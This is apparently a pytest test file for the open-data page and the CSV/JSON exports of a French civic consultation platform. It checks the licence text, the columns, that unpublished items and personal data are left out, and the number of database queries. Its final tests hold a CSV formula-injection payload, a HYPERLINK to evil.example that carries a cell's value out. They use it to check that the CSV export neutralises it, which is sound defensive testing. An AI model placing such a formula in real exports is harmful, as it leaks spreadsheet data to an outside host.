"""Open data: the explanation page and the CSV and JSON downloads of published contributions."""

import csv
import datetime as dt
import io
import json

import pytest
from django.urls import reverse

from mediane.consultation.enums import ContributionSource
from mediane.consultation.models import Contribution
from tests.consultation.factories import ContributionFactory, ThemeFactory

pytestmark = pytest.mark.django_db

COLUMNS = [
    "id",
    "consultation",
    "theme_numero",
    "theme_titre",
    "type",
    "titre",
    "texte",
    "categorie",
    "departement",
    "origine",
    "soutiens",
    "commentaires",
    "cree_le",
    "publie_le",
]


def download(client, name):
    response = client.get(reverse(f"consultation:open_data_{name}"))
    assert response.status_code == 200
    assert response.streaming
    return response, b"".join(response.streaming_content).decode("utf-8")


def csv_rows(client):
    _, text = download(client, "csv")
    return list(csv.DictReader(io.StringIO(text)))


def json_rows(client):
    _, text = download(client, "json")
    return json.loads(text)


def test_the_open_data_page_explains_the_licence_the_fields_and_the_downloads(client):
    ThemeFactory(published_count=12)
    response = client.get(reverse("consultation:open_data"))
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count("<h1") == 1
    assert "Licence Ouverte 2.0" in html
    assert "12 contributions publiées" in html
    assert reverse("consultation:open_data_csv") in html
    assert reverse("consultation:open_data_json") in html
    assert f'href="{reverse("pages:api")}"' in html and 'href="/api/docs"' not in html  # the French guide first
    for column in COLUMNS:
        assert f"<code>{column}</code>" in html


@pytest.mark.parametrize(("name", "content_type"), [("csv", "text/csv"), ("json", "application/json")])
def test_the_downloads_are_named_files(client, name, content_type):
    response, _ = download(client, name)
    assert response["Content-Disposition"] == f'attachment; filename="mediane-contributions.{name}"'
    assert response["Content-Type"].startswith(content_type)
    assert "charset=utf-8" in response["Content-Type"]


def test_the_csv_export_describes_a_published_contribution(client):
    theme = ThemeFactory(number=3, title="Former les équipes")
    item = ContributionFactory(
        theme=theme,
        title="Un « café numérique », le jeudi",
        body='Première ligne, avec une virgule.\nDeuxième ligne "citée".',
        supports_count=4,
        comments_count=2,
        source=ContributionSource.ASSISTED,
    )
    _, text = download(client, "csv")
    assert not text.startswith("\ufeff")
    assert text.splitlines()[0] == ",".join(COLUMNS)
    [row] = csv_rows(client)
    assert row == {
        "id": str(item.pk),
        "consultation": theme.consultation.slug,
        "theme_numero": "3",
        "theme_titre": "Former les équipes",
        "type": "Proposition",
        "titre": "Un « café numérique », le jeudi",
        "texte": 'Première ligne, avec une virgule.\nDeuxième ligne "citée".',
        "categorie": "Usager·e",
        "departement": "69",
        "origine": "Recueillie par un·e médiateur·rice",
        "soutiens": "4",
        "commentaires": "2",
        "cree_le": item.created_at.isoformat(),
        "publie_le": item.published_at.isoformat(),
    }
    assert dt.datetime.fromisoformat(row["cree_le"]).tzinfo is not None


def test_the_json_export_has_the_same_fields_with_numbers_as_numbers(client):
    item = ContributionFactory(supports_count=5)
    [row] = json_rows(client)
    assert list(row) == COLUMNS
    assert row["id"] == item.pk
    assert row["soutiens"] == 5
    assert row["publie_le"] == item.published_at.isoformat()


def test_an_empty_forum_gives_valid_empty_files(client):
    assert json_rows(client) == []
    assert csv_rows(client) == []


@pytest.mark.parametrize("state", ["hidden", "pending", "withdrawn"])
def test_a_contribution_that_is_not_published_is_not_in_the_open_data_export(client, state):
    published = ContributionFactory(title="Visible de tous")
    ContributionFactory(title="Ne doit pas sortir", **{state: True})
    assert [row["id"] for row in csv_rows(client)] == [str(published.pk)]
    assert [row["id"] for row in json_rows(client)] == [published.pk]
    for name in ("csv", "json"):
        assert "Ne doit pas sortir" not in download(client, name)[1]


def test_no_personal_data_is_in_either_export(client):
    ContributionFactory(author__display_name="Dominique Lefèvre", author__email="dominique@example.org")
    for name in ("csv", "json"):
        _, text = download(client, name)
        assert "Dominique" not in text
        assert "example.org" not in text
    assert "author" not in json.dumps(json_rows(client))


def test_the_export_reads_the_database_once_whatever_its_size(client, count_queries):
    def queries_for(rows):
        Contribution.objects.all().delete()
        ContributionFactory.create_batch(rows, theme=ThemeFactory())
        with count_queries() as ctx:
            assert len(csv_rows(client)) == rows
        return len(ctx)

    assert queries_for(3) == queries_for(30) == 1


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
def test_a_formula_title_is_neutralised_in_the_open_data_csv(client, start):
    ContributionFactory(title=FORMULA_TITLE, body=start + "SUM(A1:A9) pour tout le monde")

    _, text = download(client, "csv")
    [row] = csv_rows(client)

    assert row["titre"] == "'" + FORMULA_TITLE
    assert row["texte"] == "'" + start + "SUM(A1:A9) pour tout le monde"
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_a_formula_title_stays_exact_in_the_open_data_json(client):
    ContributionFactory(title=FORMULA_TITLE, body="\t-1+A1")

    [row] = json_rows(client)

    assert (row["titre"], row["texte"]) == (FORMULA_TITLE, "\t-1+A1")
